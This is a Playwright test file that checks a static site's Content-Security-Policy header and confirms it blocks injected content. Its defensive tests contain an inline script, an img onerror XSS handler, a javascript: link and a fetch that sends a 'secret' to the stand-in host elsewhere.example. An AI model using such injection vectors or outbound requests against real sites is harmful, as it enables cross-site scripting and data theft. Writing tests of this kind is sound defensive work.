import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { thirdParties } from '@/content/third-parties';
import { routes } from '@/lib/routes';
import { expect, test } from './fixtures';

/** Every page: a policy may be missing where the sitemap does not look. */
const pages = readdirSync('out', { recursive: true, encoding: 'utf8' }).filter((file) =>
  file.endsWith('.html'),
);

test('no code of the content’s schemas reaches the browser', { tag: '@desktop' }, () => {
  const scripts = readdirSync('out/_next/static', { recursive: true, encoding: 'utf8' }).filter(
    (file) => file.endsWith('.js'),
  );
  expect(scripts.length).toBeGreaterThan(0);
  for (const script of scripts) {
    expect(readFileSync(join('out/_next/static', script), 'utf8'), script).not.toContain(
      'unrecognized_keys',
    );
  }
});

test.describe('the security policy', { tag: '@desktop' }, () => {
  test('stands before everything on every page, is strict, and names the privacy page’s third parties', () => {
    for (const page of pages) {
      const [, policy = ''] =
        /<head><meta charset="utf-8"\/><meta http-equiv="Content-Security-Policy" content="([^"]+)"/i.exec(
          readFileSync(join('out', page), 'utf8'),
        ) ?? [];
      expect(policy, page).toContain("default-src 'self'");
      expect(policy, page).not.toMatch(/unsafe|\*|https?:(?!\/\/)/);
      const hosts = [...policy.matchAll(/https:\/\/([^\s;]+)/g)].map(([, host]) => host);
      expect(new Set(hosts), page).toEqual(new Set(thirdParties.map(({ host }) => host)));
    }
  });

  test.describe('against what was slipped in', () => {
    test.use({
      allow: { hosts: [], messages: [/policy violation|Content.Security.Policy|^Refused to/i] },
    });

    test('runs no inline script, handler or style', async ({ page }) => {
      await page.goto(routes.about);
      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        const box = document.createElement('div');
        box.innerHTML =
          '<img src="data:," onerror="document.title = \'taken over\'"><p style="color: red">red</p>';
        document.body.append(script, box);
        await new Promise((resolve) => setTimeout(resolve, 200));
        const paragraph = box.querySelector('p');
        return {
          title: document.title,
          color: paragraph && getComputedStyle(paragraph).color,
        };
      });
      expect(outcome.title).not.toBe('taken over');
      expect(outcome.color).not.toBe('rgb(255, 0, 0)');
    });

    test('evaluates no text as code', async ({ page }) => {
      await page.goto(routes.about);
      const refused = page.waitForEvent('console', (message) => /policy/i.test(message.text()));
      await page.evaluate(() => {
        const link = document.createElement('a');
        link.href = 'javascript:document.title="taken over"';
        document.body.append(link);
        link.click();
      });
      await refused;
      expect(await page.title()).not.toBe('taken over');
    });

    test('asks and tells no other host', async ({ page }) => {
      await page.goto(routes.about);
      const answer = await page.evaluate(() =>
        fetch('https://elsewhere.example/?secret').then(
          () => 'sent',
          () => 'refused',
        ),
      );
      expect(answer).toBe('refused');
    });
  });
});
